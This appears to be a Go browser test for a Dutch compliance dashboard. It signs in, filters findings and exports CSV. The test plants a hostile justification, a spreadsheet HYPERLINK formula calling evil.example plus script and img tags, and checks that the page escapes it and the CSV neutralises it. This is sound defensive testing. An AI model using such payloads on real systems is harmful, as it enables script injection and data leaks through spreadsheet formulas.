@@ -1,0 +1,238 @@
+package dashboard_test
+
+import (
+	"context"
+	"encoding/csv"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"os"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/chromedp/cdproto/network"
+	"github.com/chromedp/chromedp"
+
+	"github.com/spoor-ledger/spoor/dashboard"
+	"github.com/spoor-ledger/spoor/events"
+	"github.com/spoor-ledger/spoor/internal/testledger"
+)
+
+const chromiumPath = "/usr/bin/chromium"
+
+// hostile is a justification a discloser could write: markup that would
+// run as script and a formula a spreadsheet would evaluate.
+const hostile = `=HYPERLINK("http://evil.example/?x","klik") <script>document.title='pwned'</script><img src=x>`
+
+const password = "correct horse battery staple"
+
+// fixture is a real ledger on Pebble behind the HTTP API, with synthetic
+// disclosures and one hostile disclosure that breaks a rule, and the
+// console in front of it, audited once.
+type fixture struct {
+	sl      *testledger.Served
+	console *dashboard.Server
+	srv     *httptest.Server
+	hostile events.Disclosure
+	silent  []string // parties without any disclosure
+}
+
+func newFixture(t *testing.T) *fixture {
+	t.Helper()
+	env := testledger.New(t)
+	sl := env.Serve(t)
+	sl.Grow(t, 40)
+	f := &fixture{sl: sl}
+	sc, _ := sl.L.Covenant()
+	cov := sc.Covenant
+	// The hostile one: a synthetic disclosure that breaks a rule, with the
+	// discloser's words replaced.
+	for i := 0; ; i++ {
+		if i > 2000 {
+			t.Fatal("the generator made no disclosure that breaks a rule")
+		}
+		_, d := env.Event(t)
+		if len(cov.Check(d)) == 0 {
+			continue
+		}
+		d.Justification = hostile
+		if _, err := env.SubmitEnvelopes(t, sl.L, [][]byte{env.Sign(t, d)}); err != nil {
+			t.Fatal(err)
+		}
+		f.hostile = *d
+		break
+	}
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	pwFile := filepath.Join(t.TempDir(), "dashboard-password.json")
+	if err := dashboard.SetPassword(pwFile, password); err != nil {
+		t.Fatal(err)
+	}
+	if st, err := os.Stat(pwFile); err != nil || st.Mode().Perm() != 0o600 {
+		t.Fatalf("the password file: %v, mode %v, want 0600", err, st.Mode())
+	}
+	f.console, err = dashboard.New(dashboard.Config{LedgerURL: sl.Srv.URL, Token: testledger.FGToken, Keys: env.Keys,
+		AdminVkey: env.Demo.AdminVkey, PasswordFile: pwFile, Hosts: []string{ln.Addr().String()}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	f.console.Refresh(context.Background())
+	f.srv = httptest.NewUnstartedServer(f.console.Handler())
+	f.srv.Listener.Close()
+	f.srv.Listener = ln
+	f.srv.Start()
+	t.Cleanup(f.srv.Close)
+	return f
+}
+
+func browser(t *testing.T) context.Context {
+	t.Helper()
+	if _, err := os.Stat(chromiumPath); err != nil {
+		if os.Getenv("CI") == "true" {
+			t.Fatalf("chromium is not installed at %s: %v", chromiumPath, err)
+		}
+		t.Skipf("chromium is not installed at %s; apt-get install -y chromium to run this test", chromiumPath)
+	}
+	allocCtx, cancelAlloc := chromedp.NewExecAllocator(context.Background(),
+		chromedp.ExecPath(chromiumPath), chromedp.Headless, chromedp.NoSandbox, chromedp.NoFirstRun,
+		chromedp.Flag("disable-dev-shm-usage", true), chromedp.Flag("disable-background-networking", true),
+		chromedp.WindowSize(1200, 900))
+	t.Cleanup(cancelAlloc)
+	ctx, cancel := chromedp.NewContext(allocCtx)
+	t.Cleanup(func() { _ = chromedp.Cancel(ctx); cancel() })
+	if err := chromedp.Do(ctx); err != nil {
+		t.Fatalf("starting chromium: %v", err)
+	}
+	return ctx
+}
+
+func run(t *testing.T, ctx context.Context, what string, steps ...chromedp.Action[chromedp.Void]) {
+	t.Helper()
+	sctx, cancel := context.WithTimeout(ctx, 20*time.Second)
+	defer cancel()
+	if err := chromedp.Do(sctx, steps...); err != nil {
+		t.Fatalf("%s: %v", what, err)
+	}
+}
+
+func value[T any](t *testing.T, ctx context.Context, what string, a chromedp.Action[T]) T {
+	t.Helper()
+	sctx, cancel := context.WithTimeout(ctx, 20*time.Second)
+	defer cancel()
+	v, err := chromedp.Run(sctx, a)
+	if err != nil {
+		t.Fatalf("%s: %v", what, err)
+	}
+	return v
+}
+
+// TestConsoleInBrowser: the FG signs in, sees every organisation (those
+// without disclosures too), filters the findings by the hostile
+// disclosure's organisation, and exports them as CSV; the hostile
+// justification is text in the page and a quoted cell in the CSV.
+// SPOOR_DASHBOARD_SCREENSHOTS=DIR writes the pages' screenshots there.
+func TestConsoleInBrowser(t *testing.T) {
+	f := newFixture(t)
+	ctx := browser(t)
+	base := f.srv.URL
+	shots := os.Getenv("SPOOR_DASHBOARD_SCREENSHOTS")
+	shot := func(file string) {
+		if shots == "" {
+			return
+		}
+		png := value(t, ctx, "screenshot", chromedp.FullScreenshot(100))
+		if err := os.WriteFile(filepath.Join(shots, file), png, 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	run(t, ctx, "the sign-in page", chromedp.Navigate(base+"/"), chromedp.WaitVisible(chromedp.ID("wachtwoord")))
+	run(t, ctx, "a wrong password", chromedp.SendKeys(chromedp.ID("wachtwoord"), "not the password at all\r"), chromedp.WaitVisible(chromedp.CSS("p.fout")))
+	run(t, ctx, "signing in", chromedp.SendKeys(chromedp.ID("wachtwoord"), password+"\r"), chromedp.WaitVisible(chromedp.ID("gezondheid")))
+	if got := value(t, ctx, "the result", chromedp.Text(chromedp.ID("resultaat"))); !strings.Contains(got, "kloppen") {
+		t.Errorf("the health says %q", got)
+	}
+	if got, want := value(t, ctx, "the size", chromedp.Text(chromedp.ID("omvang"))), f.sl.L.Head().Size; got != strconv.FormatUint(want, 10) {
+		t.Errorf("the log size shown is %q, want %d", got, want)
+	}
+	orgs := value(t, ctx, "the organisations", chromedp.OuterHTML(chromedp.ID("organisaties")))
+	sc, _ := f.sl.L.Covenant()
+	silent := 0
+	for _, p := range sc.Covenant.Parties {
+		if !strings.Contains(orgs, "("+p.ID+")") {
+			t.Errorf("organisation %s is not listed", p.ID)
+		}
+	}
+	silent = strings.Count(orgs, "geen verstrekkingen")
+	if silent == 0 {
+		t.Errorf("no organisation is shown without disclosures; the table: %s", orgs)
+	}
+	shot("dashboard-overzicht.png")
+
+	run(t, ctx, "filtering by organisation",
+		chromedp.Navigate(base+"/bevindingen"), chromedp.WaitVisible(chromedp.ID("filter")),
+		chromedp.SetValue(chromedp.ID("organisatie"), f.hostile.Discloser),
+		chromedp.Click(chromedp.ID("filteren")),
+		chromedp.WaitVisible(chromedp.CSS("td.toelichting")))
+	loc := value(t, ctx, "the location", chromedp.Location())
+	if !strings.Contains(loc, "organisatie="+url.QueryEscape(f.hostile.Discloser)) {
+		t.Errorf("after filtering the browser is at %s", loc)
+	}
+	table := value(t, ctx, "the findings", chromedp.OuterHTML(chromedp.ID("bevindingen")))
+	if n := strings.Count(table, `<td class="org">`); n == 0 || n != strings.Count(table, `<td class="org">`+f.hostile.Discloser+`</td>`) {
+		t.Errorf("the filtered table has rows of other organisations: %s", table)
+	}
+	if !strings.Contains(table, "&lt;script&gt;") || strings.Contains(table, "<script") || strings.Contains(table, "<img") {
+		t.Errorf("the hostile justification is not inert in the page: %s", table)
+	}
+	if title := value(t, ctx, "the title", chromedp.Title()); strings.Contains(title, "pwned") {
+		t.Errorf("the hostile justification ran as script: title %q", title)
+	}
+	shot("dashboard-bevindingen.png")
+
+	// The CSV export, through the link on the page, with the browser's
+	// session cookie.
+	href := value(t, ctx, "the CSV link", chromedp.AttributeValue(chromedp.ID("csv"), "href"))
+	got, err := chromedp.Call(ctx, network.GetCookies, network.GetCookiesParams{URLs: []string{base}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	req, _ := http.NewRequest("GET", base+href.Value, nil)
+	for _, c := range got.Cookies {
+		req.AddCookie(&http.Cookie{Name: c.Name, Value: c.Value})
+	}
+	resp, err := http.DefaultClient.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	rows, err := csv.NewReader(resp.Body).ReadAll()
+	if err != nil || resp.StatusCode != http.StatusOK || len(rows) < 2 {
+		t.Fatalf("the CSV: %d, %d rows, %v", resp.StatusCode, len(rows), err)
+	}
+	found := false
+	for _, row := range rows[1:] {
+		if row[1] != f.hostile.Discloser {
+			t.Errorf("a CSV row of organisation %s under the filter %s", row[1], f.hostile.Discloser)
+		}
+		for _, cell := range row {
+			if cell != "" && strings.ContainsAny(cell[:1], "=+-@") {
+				t.Errorf("CSV cell %q starts with a formula character", cell)
+			}
+		}
+		if row[len(row)-1] == "'"+hostile {
+			found = true
+		}
+	}
+	if !found {
+		t.Errorf("the hostile justification is not in the CSV as a quoted cell: %q", rows)
+	}
+	run(t, ctx, "the answers page", chromedp.Navigate(base+"/antwoorden"), chromedp.WaitVisible(chromedp.ID("antwoorden")))
+	run(t, ctx, "signing out", chromedp.Click(chromedp.CSS("form.uit button")), chromedp.WaitVisible(chromedp.ID("wachtwoord")))
+}
